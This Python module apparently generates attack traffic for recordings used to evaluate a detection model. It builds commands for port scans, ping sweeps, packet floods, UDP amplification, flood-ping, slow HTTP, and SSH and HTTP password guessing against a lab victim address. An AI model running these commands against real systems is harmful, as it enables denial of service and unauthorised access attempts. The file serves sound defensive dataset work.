# SPDX-License-Identifier: Apache-2.0
"""The same attacks by other tools and at other rates, for recordings that judge a model. Bounded as the usual ones are."""
from __future__ import annotations

import random

from .attacks import listed, one_victim, write_words
from .benign import SCRIPT, Activity, Command, base_url
from .plan import Host, Plan

NPING = ("nping", "--send-ip", "-N", "-H", "-q")
HPING = ("hping3", "-q", "-n", "-I", "e0")


def syn_scan(plan: Plan, host: Host, numbers: random.Random) -> list[Command]:
    return [Command(0.3, (*NPING, "--tcp", "--flags", "syn", "--rate", str(numbers.choice((40, 150))), "-c", "1", "--win", "4096", "-p",
                          listed(numbers.sample(range(1, 20000), 400)), *one_victim(plan, numbers)))]


def connect_scan(plan: Plan, host: Host, numbers: random.Random) -> list[Command]:
    ports = listed(numbers.sample(range(1, 20000), 300))
    return [Command(0.3, (SCRIPT, "_knock", one_victim(plan, numbers)[-1], ports, str(numbers.choice((0.01, 0.03))), str(numbers.random())), 20)]


def udp_scan(plan: Plan, host: Host, numbers: random.Random) -> list[Command]:
    # By IPv4: nping 0.7.93 sends no datagrams of IPv6.
    return [Command(0.3, (*NPING, "--udp", "--rate", str(numbers.choice((30, 100))), "-c", "1", "-p", listed(numbers.sample(range(1, 20000), 250)),
                          str(plan.victim.address)))]


def flag_scan(plan: Plan, host: Host, numbers: random.Random) -> list[Command]:
    return [Command(0.3, (*HPING, *flags, "-p", f"++{numbers.randrange(1, 5000)}", "-i", "u15000", "-c", "200",
                          str(plan.victim.address)), 8) for flags in ((), ("-F",), ("-F", "-P", "-U"))]


def slow_scan(plan: Plan, host: Host, numbers: random.Random) -> list[Command]:
    ports = numbers.sample(range(1, 20000), 30)
    return [Command(0.3, (*HPING, "-S", "-w", "29200", "-p", str(port), "-c", "1", str(plan.victim.address)), 3)
            for port in ports]


def ping_sweep(plan: Plan, host: Host, numbers: random.Random) -> list[Command]:
    return [Command(0.3, (*NPING, "--icmp", "--rate", str(numbers.choice((25, 60))), "-c", "1", "--data-length", "32", str(plan.victim.prefix)))]


def flood(*kind: str) -> Activity:
    def commands(plan: Plan, host: Host, numbers: random.Random) -> list[Command]:
        rate = numbers.choice((400, 1200, 4000))
        return [Command(pause, (*NPING, *kind, "--rate", str(rate), "-c", str(min(plan.packets // 4, rate * 2)), "-p",
                                str(plan.services.web), str(plan.victim.address)), 6) for pause in (0.3, 1, 0.5, 2)]
    return commands


def amplification(plan: Plan, host: Host, numbers: random.Random) -> list[Command]:
    rate = numbers.choice((600, 1500, 4000))
    return [Command(pause, (*NPING, "--udp", "-g", str(numbers.choice((19, 111, 161, 11211))), "-p", str(numbers.randrange(1024, 65536)),
                            "--data-length", str(numbers.choice((200, 700, 1100))), "--rate", str(rate), "-c", str(min(plan.packets // 4, rate * 2)),
                            str(plan.victim.address)), 6) for pause in (0.3, 0.7)]


def icmp_flood(plan: Plan, host: Host, numbers: random.Random) -> list[Command]:
    return [Command(0.3, ("ping", "-n", "-q", "-f", "-c", str(min(plan.packets // 2, 4000)), "-s", str(numbers.choice((32, 300, 1200))),
                          one_victim(plan, numbers)[-1]), 12)]


def guess_ssh(plan: Plan, host: Host, numbers: random.Random) -> list[Command]:
    """ssh itself with a wrong password, three times per connection."""
    helper = f"WORK/{host.name}.ask"
    found = [Command(0, ("sh", "-c", f"printf '#!/bin/sh\\necho %s\\n' '{write_words(1, numbers)[0]}' > {helper}; chmod 700 {helper}"))]
    for _ in range(25):
        argv = ("ssh", "-F", "/dev/null", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "GlobalKnownHostsFile=/dev/null",
                "-o", "PubkeyAuthentication=no", "-o", "PreferredAuthentications=password", "-p", str(plan.services.ssh),
                f"{numbers.choice(('admin', 'test', 'oracle', 'pi'))}@{plan.victim.address}", "true")
        found.append(Command(numbers.uniform(0, 0.4), argv, 8, (("SSH_ASKPASS", helper), ("SSH_ASKPASS_REQUIRE", "force"))))
    return found


def guess_web(plan: Plan, host: Host, numbers: random.Random) -> list[Command]:
    url = f"{base_url(plan, numbers)}/private/"
    found = []
    for _ in range(20):
        argv = ["curl", "-s", "-g"]
        for word in write_words(8, numbers):
            argv += ["-o", "/dev/null", "--max-time", "5", "-u", f"admin:{word}", url, "--next", "-s", "-g"]
        found.append(Command(numbers.uniform(0.05, 0.5), tuple(argv[:-3])))
    return found


def slow_http(plan: Plan, host: Host, numbers: random.Random) -> list[Command]:
    return [Command(0.3, (SCRIPT, "_linger", one_victim(plan, numbers)[-1], str(plan.services.web), str(numbers.choice((40, 90))), "0.05", "10"))]
